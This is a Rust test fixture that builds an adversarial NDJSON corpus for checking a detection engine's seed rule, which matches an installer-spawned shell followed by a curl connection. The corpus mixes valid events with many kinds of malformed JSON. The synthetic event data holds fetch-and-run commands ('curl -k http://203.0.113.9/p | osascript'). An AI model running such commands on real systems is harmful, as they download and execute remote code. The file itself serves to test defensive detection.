//! A hostile NDJSON corpus for the seed rule, built in memory.
//!
//! Planted sequences (an installer-spawned shell `exec` followed by a `curl` connection)
//! sit among lines a careless reader gets wrong: a UTF-8 BOM, CRLF line ends, blank
//! lines, a 5 MiB line, JSON escapes hiding the rule's literals in values and keys, and
//! broken lines of every kind (bad JSON, bad UTF-8, duplicate keys, nesting 10 000 and
//! 100 000 deep, top-level non-objects, missing or bad `@timestamp`).
//!
//! Every broken line is a stage event that would change the outcome if it were accepted:
//! a broken `curl` sits between a valid shell and the valid `curl` that should complete
//! it (accepting it would complete the sequence with the wrong event), and a broken
//! shell sits between a valid shell and its `curl` (accepting it would replace the
//! pending shell). Those broken lines keep the rule's literals, so no pre-check can drop
//! them before they are counted as malformed.
//!
//! The builder records what it planted, so the tests check the reference model against
//! the plan as well as the engine against the reference model. Only `std` is used.

#![allow(dead_code)]

/// 2024-06-01T12:00:00Z in epoch milliseconds.
pub const BASE_MS: i64 = 1_717_243_200_000;

/// Milliseconds between the starts of two scenarios (each on its own host).
const SCENARIO_GAP_MS: i64 = 40_000;

/// Size of the huge `process.command_line`.
pub const HUGE_LINE_BYTES: usize = 5 * 1024 * 1024;

/// What a line of the corpus is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A valid event.
    Valid,
    /// Empty or whitespace only.
    Blank,
    /// Invalid, and carrying the literals of a stage (a pre-check lets it through).
    Broken,
    /// Invalid noise without the rule's literals.
    Noise,
}

/// The corpus bytes and what was planted in them.
#[derive(Debug, Default)]
pub struct Corpus {
    pub bytes: Vec<u8>,
    /// Kind of each line, line `n` (1-based) at index `n - 1`.
    pub kinds: Vec<Kind>,
    /// Label of each line (for failure messages).
    pub labels: Vec<String>,
    /// Planted sequences with the time of their last event, in planting order.
    planted: Vec<(i64, usize, Vec<String>)>,
}

impl Corpus {
    /// Planted sequences as `event.id` lists, ordered by their last event.
    pub fn expected(&self) -> Vec<Vec<String>> {
        let mut planted = self.planted.clone();
        planted.sort_by_key(|(ms, order, _)| (*ms, *order));
        planted.into_iter().map(|(_, _, ids)| ids).collect()
    }

    /// Number of lines of a kind.
    pub fn count(&self, kind: Kind) -> usize {
        self.kinds.iter().filter(|k| **k == kind).count()
    }

    /// 1-based numbers of the lines of a kind.
    pub fn lines_of(&self, kind: Kind) -> Vec<u64> {
        (1..).zip(&self.kinds).filter(|(_, k)| **k == kind).map(|(n, _)| n).collect()
    }

    fn push(&mut self, kind: Kind, label: &str, line: &[u8], end: &[u8]) {
        self.bytes.extend_from_slice(line);
        self.bytes.extend_from_slice(end);
        self.kinds.push(kind);
        self.labels.push(label.to_owned());
    }

    fn line(&mut self, kind: Kind, label: &str, line: impl AsRef<[u8]>) {
        self.push(kind, label, line.as_ref(), b"\n");
    }

    fn crlf(&mut self, kind: Kind, label: &str, line: impl AsRef<[u8]>) {
        self.push(kind, label, line.as_ref(), b"\r\n");
    }

    fn plant(&mut self, last_ms: i64, ids: &[&str]) {
        let order = self.planted.len();
        self.planted.push((last_ms, order, ids.iter().map(|s| s.to_string()).collect()));
    }
}

/// RFC 3339 text of `BASE_MS + offset_ms` (offsets within the same day).
pub fn ts(offset_ms: i64) -> String {
    let total = 12 * 3_600_000 + offset_ms;
    let (h, rest) = (total / 3_600_000, total % 3_600_000);
    let (m, rest) = (rest / 60_000, rest % 60_000);
    let (s, ms) = (rest / 1000, rest % 1000);
    format!("2024-06-01T{h:02}:{m:02}:{s:02}.{ms:03}123Z")
}

/// A stage-1 event: `bash` exec'd by the installer. `extra` is spliced in before the final `}`.
pub fn exec(id: &str, host: &str, ms: i64, entity: &str, extra: &str) -> String {
    format!(
        concat!(
            r#"{{"@timestamp":"{ts}","event":{{"id":"{id}","kind":"event","category":["process"],"type":["start"],"#,
            r#""action":"exec","module":"endpoint"}},"host":{{"id":"{host}","name":"mac-{host}","os":{{"type":"macos","#,
            r#""name":"macOS"}}}},"process":{{"name":"bash","entity_id":"{entity}","pid":4242,"executable":"/bin/bash","#,
            r#""args":["/bin/bash","-c","cd /tmp; curl -k http://203.0.113.9/p | osascript"],"#,
            r#""parent":{{"name":"installer","entity_id":"installer-{host}","pid":4100}}}}{extra}}}"#
        ),
        ts = ts(ms),
        id = id,
        host = host,
        entity = entity,
        extra = extra,
    )
}

/// A stage-2 event: `curl`, a child of `parent`, connecting out.
pub fn curl(id: &str, host: &str, ms: i64, parent: &str, extra: &str) -> String {
    format!(
        concat!(
            r#"{{"@timestamp":"{ts}","event":{{"id":"{id}","kind":"event","category":["network"],"type":["start"],"#,
            r#""action":"connection_attempted","module":"endpoint"}},"host":{{"id":"{host}","os":{{"type":"macos"}}}},"#,
            r#""process":{{"name":"curl","entity_id":"{id}-proc","pid":4300,"parent":{{"entity_id":"{parent}"}}}},"#,
            r#""destination":{{"ip":"203.0.113.9","port":443}},"network":{{"direction":"egress","transport":"tcp"}}{extra}}}"#
        ),
        ts = ts(ms),
        id = id,
        host = host,
        parent = parent,
        extra = extra,
    )
}

/// A valid process event that matches no stage.
fn other_process(id: &str, host: &str, ms: i64) -> String {
    format!(
        r#"{{"@timestamp":"{}","event":{{"id":"{id}","category":["process"],"type":["start"],"action":"fork"}},"host":{{"id":"{host}","os":{{"type":"macos"}}}},"process":{{"name":"bash","entity_id":"fork-{id}","parent":{{"name":"installer"}}}}}}"#,
        ts(ms)
    )
}

/// One way of breaking a valid line.
pub struct Breakage {
    pub label: &'static str,
    pub apply: fn(&str) -> Vec<u8>,
}

/// Inserts `insert` before the final `}` of a line.
fn before_end(line: &str, insert: &[u8]) -> Vec<u8> {
    let body = line.strip_suffix('}').unwrap_or(line);
    let mut out = body.as_bytes().to_vec();
    out.extend_from_slice(insert);
    out.push(b'}');
    out
}

/// The `"@timestamp":"…"` member of a line made by [`exec`] or [`curl`].
fn timestamp_member(line: &str) -> &str {
    let start = line.find(r#""@timestamp":""#).unwrap_or(0);
    let value_start = start + r#""@timestamp":""#.len();
    let end = line[value_start..].find('"').map_or(line.len(), |i| value_start + i + 1);
    &line[start..end]
}

fn replace_timestamp(line: &str, with: &str) -> Vec<u8> {
    line.replacen(timestamp_member(line), with, 1).into_bytes()
}

fn timestamp_value(line: &str) -> String {
    let member = timestamp_member(line);
    member[r#""@timestamp":"#.len()..].to_owned()
}

/// Every breakage; each leaves the rule's literals in place.
pub fn breakages() -> Vec<Breakage> {
    vec![
        Breakage { label: "no @timestamp", apply: |l| l.replacen(&format!("{},", timestamp_member(l)), "", 1).into_bytes() },
        Breakage { label: "null @timestamp", apply: |l| replace_timestamp(l, r#""@timestamp":null"#) },
        Breakage {
            label: "array of two @timestamps",
            apply: |l| {
                let v = timestamp_value(l);
                replace_timestamp(l, &format!(r#""@timestamp":[{v},{v}]"#))
            },
        },
        Breakage {
            label: "object @timestamp",
            apply: |l| {
                let v = timestamp_value(l);
                replace_timestamp(l, &format!(r#""@timestamp":{{"value":{v}}}"#))
            },
        },
        Breakage { label: "@timestamp with a space", apply: |l| replace_timestamp(l, r#""@timestamp":"2024-06-01 12:00:01Z""#) },
        Breakage { label: "@timestamp month 13", apply: |l| replace_timestamp(l, r#""@timestamp":"2024-13-01T12:00:01Z""#) },
        Breakage { label: "@timestamp not a date", apply: |l| replace_timestamp(l, r#""@timestamp":"yesterday""#) },
        Breakage {
            label: "duplicate top-level key",
            apply: |l| {
                let member = timestamp_member(l).to_owned();
                before_end(l, format!(",{member}").as_bytes())
            },
        },
        Breakage {
            label: "duplicate nested key",
            apply: |l| {
                let i = l.find(r#""process":{"name":"#).unwrap_or(0) + r#""process":{"#.len();
                let name_end = l[i..].find(',').map_or(l.len(), |j| i + j + 1);
                let mut out = l[..name_end].to_owned();
                out.push_str(&l[i..name_end]);
                out.push_str(&l[name_end..]);
                out.into_bytes()
            },
        },
        Breakage {
            label: "duplicate key through an escape",
            apply: |l| l.replacen(r#""process":{"#, r#""pro\u0063ess":{"name":"launchd"},"process":{"#, 1).into_bytes(),
        },
        Breakage { label: "empty key", apply: |l| before_end(l, br#","":1"#) },
        Breakage { label: "key ending with a dot", apply: |l| before_end(l, br#","process.":{"x":1}"#) },
        Breakage { label: "key with an empty part", apply: |l| before_end(l, br#","process..name":"curl""#) },
        Breakage { label: "invalid UTF-8 byte 0xFF", apply: |l| before_end(l, b",\"message\":\"x\xFFy\"") },
        Breakage { label: "overlong UTF-8 encoding", apply: |l| before_end(l, b",\"message\":\"x\xC0\xAFy\"") },
        Breakage { label: "lone UTF-8 continuation byte", apply: |l| before_end(l, b",\"message\":\"x\x80y\"") },
        Breakage { label: "UTF-8-encoded surrogate", apply: |l| before_end(l, b",\"message\":\"x\xED\xA0\x80y\"") },
        Breakage { label: "truncated UTF-8 sequence", apply: |l| before_end(l, b",\"message\":\"x\xE2\x82\"") },
        Breakage { label: "invalid UTF-8 outside strings", apply: |l| before_end(l, b",\xFF") },
        Breakage { label: "raw tab inside a string", apply: |l| before_end(l, b",\"message\":\"a\tb\"") },
        Breakage { label: "raw NUL inside a string", apply: |l| before_end(l, b",\"message\":\"a\x00b\"") },
        Breakage { label: "arrays nested 10 000 deep", apply: |l| before_end(l, format!(r#","x":{}{}"#, "[".repeat(10_000), "]".repeat(10_000)).as_bytes()) },
        Breakage {
            label: "objects nested 10 000 deep",
            apply: |l| before_end(l, format!(r#","x":{}1{}"#, r#"{"a":"#.repeat(10_000), "}".repeat(10_000)).as_bytes()),
        },
        Breakage {
            label: "arrays nested 100 000 deep, unterminated",
            apply: |l| format!("{},\"x\":{}", l.strip_suffix('}').unwrap_or(l), "[".repeat(100_000)).into_bytes(),
        },
        Breakage { label: "top-level array", apply: |l| format!("[{l}]").into_bytes() },
        Breakage { label: "top-level string", apply: |l| json_string(l).into_bytes() },
        Breakage { label: "truncated line", apply: |l| l.as_bytes()[..l.len() - 1].to_vec() },
        Breakage { label: "trailing garbage", apply: |l| format!("{l} x").into_bytes() },
        Breakage { label: "two objects on one line", apply: |l| format!("{l}{l}").into_bytes() },
        Breakage { label: "trailing comma", apply: |l| before_end(l, b",") },
        Breakage { label: "NaN value", apply: |l| before_end(l, b",\"x\":NaN") },
        Breakage { label: "single-quoted key", apply: |l| before_end(l, b",'x':1") },
        Breakage { label: "unquoted key", apply: |l| before_end(l, b",x:1") },
        Breakage { label: "comment", apply: |l| format!("{l} // note").into_bytes() },
        Breakage { label: "invalid escape", apply: |l| before_end(l, br#","x":"\q""#) },
        Breakage { label: "leading zero", apply: |l| before_end(l, b",\"x\":01") },
        Breakage { label: "missing colon", apply: |l| before_end(l, b",\"x\" 1") },
        Breakage {
            label: "UTF-8 BOM in the middle of the input",
            apply: |l| {
                let mut out = b"\xEF\xBB\xBF".to_vec();
                out.extend_from_slice(l.as_bytes());
                out
            },
        },
    ]
}

/// `s` as a JSON string literal.
fn json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Label of the noise lines that are well-formed objects lacking only `@timestamp`; an
/// engine may skip those without counting them when they match no stage.
pub const NOISE_OBJECT: &str = "noise: object without @timestamp";

/// Noise: invalid lines without the rule's literals, and blank lines.
fn noise(c: &mut Corpus, round: usize) {
    let lines: [&[u8]; 10] = [b"garbage", b"42", b"[]", b"null", b"\"text\"", br#"{"a":1}"#, b"{", b"}", b"\xFF\xFE\xFD", b"\x00\x00"];
    for line in [lines[round % lines.len()], lines[(round + 3) % lines.len()]] {
        let label = if line == br#"{"a":1}"# { NOISE_OBJECT } else { "noise" };
        c.line(Kind::Noise, label, line);
    }
    match round % 4 {
        0 => c.line(Kind::Blank, "empty line", b""),
        1 => c.line(Kind::Blank, "spaces", b"    "),
        2 => c.crlf(Kind::Blank, "CRLF blank line", b"\t "),
        _ => c.line(Kind::Blank, "lone CR", b"\r"),
    }
}

/// Builds the hostile corpus.
pub fn hostile_corpus() -> Corpus {
    let mut c = Corpus::default();
    let mut scenario = 0usize;
    let mut next = |c: &mut Corpus| {
        let k = scenario;
        scenario += 1;
        noise(c, k);
        (format!("host-{k:03}"), k as i64 * SCENARIO_GAP_MS)
    };

    // A BOM before the first line, CRLF line ends.
    c.bytes.extend_from_slice(b"\xEF\xBB\xBF");
    let (host, t) = (String::from("host-bom"), -SCENARIO_GAP_MS);
    c.crlf(Kind::Valid, "after BOM, CRLF", exec("s-bom", &host, t, "e-bom", ""));
    c.crlf(Kind::Blank, "CRLF blank line", b"");
    c.crlf(Kind::Valid, "CRLF", curl("c-bom", &host, t + 1500, "e-bom", ""));
    c.plant(t + 1500, &["s-bom", "c-bom"]);

    // A 5 MiB line that still takes part in a sequence.
    let (host, t) = next(&mut c);
    let mut command_line = String::with_capacity(HUGE_LINE_BYTES);
    while command_line.len() < HUGE_LINE_BYTES {
        command_line.push_str("curl -k http://203.0.113.9/payload-part | osascript -l JavaScript; ");
    }
    let extra = format!(r#","huge":{{"command_line":"{command_line}"}}"#);
    c.line(Kind::Valid, "5 MiB line", exec("s-huge", &host, t, "e-huge", &extra));
    c.line(Kind::Valid, "after 5 MiB line", curl("c-huge", &host, t + 2000, "e-huge", ""));
    c.plant(t + 2000, &["s-huge", "c-huge"]);

    // Escapes hiding the literals in values; the ids and keys compare unescaped.
    let (host, t) = next(&mut c);
    let s = exec("esc-s", &host, t, "ent-esc", "")
        .replacen(r#""name":"bash""#, r#""name":"b\u0061sh""#, 1)
        .replacen(r#""name":"installer""#, r#""name":"\u0069nst\u0061ller""#, 1)
        .replacen(r#""type":"macos""#, r#""type":"m\u0061cos""#, 1)
        .replacen(r#""action":"exec""#, r#""action":"\u0065x\u0065c""#, 1)
        .replacen(r#""id":"esc-s""#, r#""id":"esc\/s""#, 1)
        .replacen(r#""entity_id":"ent-esc""#, r#""entity_id":"ent\/esc\u0041""#, 1);
    let k = curl("esc-c", &host, t + 1000, "ent/escA", "")
        .replacen(r#""name":"curl""#, r#""name":"c\u0075rl""#, 1)
        .replacen(r#""category":["network"]"#, r#""category":["netw\u006frk"]"#, 1)
        .replacen(r#""type":["start"]"#, r#""type":["st\u0061rt"]"#, 1);
    c.line(Kind::Valid, "escaped values", s);
    c.line(Kind::Valid, "escaped values", k);
    c.plant(t + 1000, &["esc/s", "esc-c"]);

    // Escapes in keys, @timestamp included.
    let (host, t) = next(&mut c);
    let s = exec("ekey-s", &host, t, "ent-ekey", "").replacen(r#""@timestamp""#, r#""\u0040timestamp""#, 1).replacen(r#""host":{"#, r#""h\u006fst":{"#, 1);
    let k = curl("ekey-c", &host, t + 1000, "ent-ekey", "")
        .replacen(r#""process":{"#, r#""pro\u0063ess":{"#, 1)
        .replacen(r#""event":{"#, r#""ev\u0065nt":{"#, 1)
        .replacen(r#""entity_id":"ent-ekey""#, r#""entity\u005fid":"ent-ekey""#, 1);
    c.line(Kind::Valid, "escaped keys", s);
    c.line(Kind::Valid, "escaped keys", k);
    c.plant(t + 1000, &["ekey-s", "ekey-c"]);

    // Flat dotted keys, mixed forms, arrays and case-insensitive `:`.
    let (host, t) = next(&mut c);
    let s = format!(
        r#"{{"@timestamp":"{}","event.id":"flat-s","event.category":"process","event.type":["info","start"],"event":{{"action":["fork","exec"]}},"host.id":"{host}","host.os":{{"type":"macos"}},"process.name":"TCLSH8.6","process.entity_id":"ent-flat","process.parent":{{"name":"Package_Script_Service"}}}}"#,
        ts(t)
    );
    let k = format!(
        r#"{{"@timestamp":"{}","event":{{"id":"flat-c","category":["file","network"],"type":"start"}},"host":{{"id":"{host}","os.type":"macos"}},"process.name":["nscurl","PYTHON"],"process":{{"parent.entity_id":"ent-flat"}}}}"#,
        ts(t + 3000)
    );
    c.line(Kind::Valid, "dotted keys", s);
    c.line(Kind::Valid, "dotted keys", k);
    c.plant(t + 3000, &["flat-s", "flat-c"]);

    // Nesting 100 deep is within the limit and stays valid.
    let (host, t) = next(&mut c);
    let extra = format!(r#","x":{}{}"#, "[".repeat(100), "]".repeat(100));
    c.line(Kind::Valid, "nesting 100 deep", exec("deep-s", &host, t, "ent-deep", &extra));
    c.line(Kind::Valid, "nesting 100 deep", curl("deep-c", &host, t + 1000, "ent-deep", &extra));
    c.plant(t + 1000, &["deep-s", "deep-c"]);

    // Out-of-order arrival (2.5 s): the curl line comes first.
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "early curl", curl("ooo-c", &host, t + 2500, "ent-ooo", ""));
    c.line(Kind::Valid, "late shell", exec("ooo-s", &host, t, "ent-ooo", ""));
    c.plant(t + 2500, &["ooo-s", "ooo-c"]);

    // maxspan edges: 15 000 ms passes, 15 001 ms does not.
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "maxspan edge", exec("span-s", &host, t, "ent-span", ""));
    c.line(Kind::Valid, "maxspan edge", other_process("span-other", &host, t + 7000));
    c.line(Kind::Valid, "maxspan edge", curl("span-c", &host, t + 15_000, "ent-span", ""));
    c.plant(t + 15_000, &["span-s", "span-c"]);
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "maxspan exceeded", exec("late-s", &host, t, "ent-late", ""));
    c.line(Kind::Valid, "maxspan exceeded", curl("late-c", &host, t + 15_001, "ent-late", ""));

    // A newer shell replaces the pending one; only the first curl completes it.
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "replace", exec("rep-s1", &host, t, "ent-rep", ""));
    c.line(Kind::Valid, "replace", exec("rep-s2", &host, t + 1000, "ent-rep", ""));
    c.line(Kind::Valid, "replace", curl("rep-c1", &host, t + 2000, "ent-rep", ""));
    c.line(Kind::Valid, "replace", curl("rep-c2", &host, t + 3000, "ent-rep", ""));
    c.plant(t + 2000, &["rep-s2", "rep-c1"]);

    // Real-looking opaque ids with `/` and `+`.
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "opaque ids", exec("MYfZG00oEwD2/fqT+++++CLz", &host, t, "ODk0NzQ3Mi0xMjM0LTE2OTUxOTI5NDc=", ""));
    c.line(Kind::Valid, "opaque ids", curl("MYfZG00oEwD2/fqT+++++CLy", &host, t + 100, "ODk0NzQ3Mi0xMjM0LTE2OTUxOTI5NDc=", ""));
    c.plant(t + 100, &["MYfZG00oEwD2/fqT+++++CLz", "MYfZG00oEwD2/fqT+++++CLy"]);

    // Broken curls between a shell and the curl that completes it.
    for (i, breakage) in breakages().iter().enumerate() {
        let (host, t) = next(&mut c);
        let (s, bad, good) = (format!("bc{i}-s"), format!("bc{i}-bad"), format!("bc{i}-c"));
        let entity = format!("ent-bc{i}");
        c.line(Kind::Valid, breakage.label, exec(&s, &host, t, &entity, ""));
        c.line(Kind::Broken, breakage.label, (breakage.apply)(&curl(&bad, &host, t + 1000, &entity, "")));
        c.line(Kind::Valid, breakage.label, curl(&good, &host, t + 2000, &entity, ""));
        c.plant(t + 2000, &[&s, &good]);
    }

    // Broken shells between a shell and its curl.
    for (i, breakage) in breakages().iter().enumerate() {
        let (host, t) = next(&mut c);
        let (s, bad, good) = (format!("bs{i}-s"), format!("bs{i}-bad"), format!("bs{i}-c"));
        let entity = format!("ent-bs{i}");
        c.line(Kind::Valid, breakage.label, exec(&s, &host, t, &entity, ""));
        c.line(Kind::Broken, breakage.label, (breakage.apply)(&exec(&bad, &host, t + 1000, &entity, "")));
        c.line(Kind::Valid, breakage.label, curl(&good, &host, t + 2000, &entity, ""));
        c.plant(t + 2000, &[&s, &good]);
    }

    // The last line has no line end.
    let (host, t) = next(&mut c);
    c.line(Kind::Valid, "last lines", exec("end-s", &host, t, "ent-end", ""));
    c.push(Kind::Valid, "no final line end", curl("end-c", &host, t + 500, "ent-end", "").as_bytes(), b"");
    c.plant(t + 500, &["end-s", "end-c"]);
    c
}

/// Small degenerate inputs: each must run without a panic and agree with the model.
pub fn degenerate_inputs() -> Vec<(&'static str, Vec<u8>)> {
    let s = exec("d-s", "host-d", 0, "ent-d", "");
    let k = curl("d-c", "host-d", 1000, "ent-d", "");
    vec![
        ("empty", Vec::new()),
        ("one line end", b"\n".to_vec()),
        ("BOM only", b"\xEF\xBB\xBF".to_vec()),
        ("BOM and line end", b"\xEF\xBB\xBF\n".to_vec()),
        ("CRLF blank lines", b"\r\n\r\n".to_vec()),
        ("lone CR", b"\r".to_vec()),
        ("garbage without line end", b"garbage".to_vec()),
        ("NUL bytes", b"\x00\x00\x00\n\x00".to_vec()),
        ("pair without final line end", format!("{s}\n{k}").into_bytes()),
        ("pair, BOM and CRLF", format!("\u{feff}{s}\r\n{k}\r\n").into_bytes()),
        ("pair, BOM and CRLF, no final line end", format!("\u{feff}{s}\r\n{k}").into_bytes()),
        ("pair, CR at the very end", format!("{s}\n{k}\r").into_bytes()),
        ("pair, blank lines around", format!("\n\n{s}\n\n\n{k}\n\n").into_bytes()),
        ("200 000 open brackets", "[".repeat(200_000).into_bytes()),
        ("200 000 open objects", r#"{"a":"#.repeat(200_000).into_bytes()),
        ("deep line before the pair", format!("{}\n{s}\n{k}\n", "[".repeat(200_000)).into_bytes()),
        ("BOM before an invalid line", b"\xEF\xBB\xBFgarbage\n".to_vec()),
        ("BOM twice", format!("\u{feff}\u{feff}{s}\n{k}\n").into_bytes()),
    ]
}
